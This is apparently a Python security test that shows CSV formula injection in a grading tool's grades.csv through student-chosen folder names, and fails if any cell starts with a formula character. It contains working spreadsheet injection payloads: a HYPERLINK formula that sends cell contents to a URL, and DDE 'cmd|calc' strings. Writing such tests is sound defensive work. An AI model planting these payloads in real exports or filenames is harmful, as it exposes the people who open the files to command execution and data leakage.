"""grades.csv formula injection through learner-controlled strings (no kernel runs).

A submission folder named like a spreadsheet formula is a valid student id
(grader.classroom.batch.valid_id only asks for printable, no slash/backslash, no leading
dot). The row is written to grades.csv verbatim by Gradebook.write_tables
(csv.DictWriter, no neutralising of a leading = + - @ TAB CR), so when the
instructor opens grades.csv in Excel/LibreOffice/Sheets the cell is evaluated.
The same holds for the notebook with a missing file: the row still carries the id.
Also shown: a learner-chosen *file* name appears in the message column (an
"invalid_notebook" row quoting the names of the .ipynb files found), but that
column starts with fixed grader text, so only the student_id column is live.

Run: .venv/bin/python tests/attacks/notes/csv_formula_student_id.py
Expect (what the grader SHOULD do): no cell of grades.csv starts with = + - @ (or is prefixed with ').
"""
import csv, sys, tempfile
from pathlib import Path
sys.path.insert(0, str(Path(__file__).resolve().parents[3]))
from grader.classroom.batch import discover
from grader.term.gradebook import Gradebook
from grader.layout import Course

root = Path(__file__).resolve().parents[3]
course = Course(root)
base = Path(tempfile.mkdtemp())
sub = base / "submitted"
evil = '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"127.0.0.1:9?x=",A3),"click")'
for name in [evil, "+cmd|' /C calc'!A0".replace("/", ""), "@SUM(1+1)*cmd|'calc'!A0"]:
    (sub / name / "collectives").mkdir(parents=True)   # empty assignment folder -> a 'missing' row, no kernel
# an ordinary student whose folder holds an extra, learner-named assignment folder: an 'invalid_folder' row
# whose assignment_id column is the learner's folder name, verbatim
(sub / "bob" / "collectives").mkdir(parents=True)
(sub / "bob" / "=1+cmd|' C calc'!A0").mkdir()
jobs, rejected = discover(sub, course)
book = Gradebook(base / "out")
from grader.submission.pipeline import Settings, prepare, finish
settings = Settings(out=base / "out")
for job in jobs:  # valid ids ('/' is refused by valid_id, so the formulas use CHAR(47)); finish() records the row
    finish(prepare(job, course, settings), None, course, settings)
for r in rejected:
    book.save(r, None)
book.write_tables(book.all_results())
rows = list(csv.reader((base / "out" / "grades.csv").open()))
live = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
print("\n".join(",".join(r) for r in rows))
print("formula cells:", live)
sys.exit(1 if live else 0)
